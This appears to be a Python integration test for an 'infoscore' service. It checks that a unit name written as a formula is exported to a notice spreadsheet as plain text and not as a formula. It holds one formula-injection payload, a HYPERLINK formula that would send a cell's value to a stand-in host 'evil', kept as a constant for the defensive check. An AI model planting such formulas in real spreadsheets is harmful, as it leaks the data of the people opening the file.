"""A notice's .xlsx holds a unit name that a spreadsheet would run as text, not as a formula."""

import io
from pathlib import Path
from typing import Any

import openpyxl

from shared.settings import SAMPLE_UNITS_FILE
from tests.integration.infoscore.helpers import RULES_2022, STAFF, adopt, set_rules, submit

EVIL = '=HYPERLINK("http://evil/?d="&C4,"点击")'


async def test_a_unit_name_that_is_a_formula_is_text_in_the_notice_sheet(
    start_stack: Any, tmp_path: Path
) -> None:
    registry = SAMPLE_UNITS_FILE.read_text(encoding="utf-8").replace("name: 计划财务处", f"name: '{EVIL}'")
    units_file = tmp_path / "units.yaml"
    units_file.write_text(registry, encoding="utf-8")
    async with start_stack("infoscore", units_file=units_file) as stack:
        await set_rules(stack, 2022, RULES_2022)
        item = await submit(stack, unit="FIN")
        await adopt(stack, item["id"], level="national")
        notice = (
            await stack.infoscore.post("/api/v1/notices", json={"year": 2022, "month": 3}, headers=STAFF)
        ).json()
        url = f"/api/v1/notices/{notice['id']}/document"
        answer = await stack.infoscore.get(url, params={"format": "xlsx"}, headers=STAFF)
    assert answer.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
    assert sheet is not None
    name = sheet.cell(row=3, column=3)
    assert (name.value, name.data_type) == ("'" + EVIL, "s")
    assert [c.value for c in sheet[3]][:2] == [1, "FIN"]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
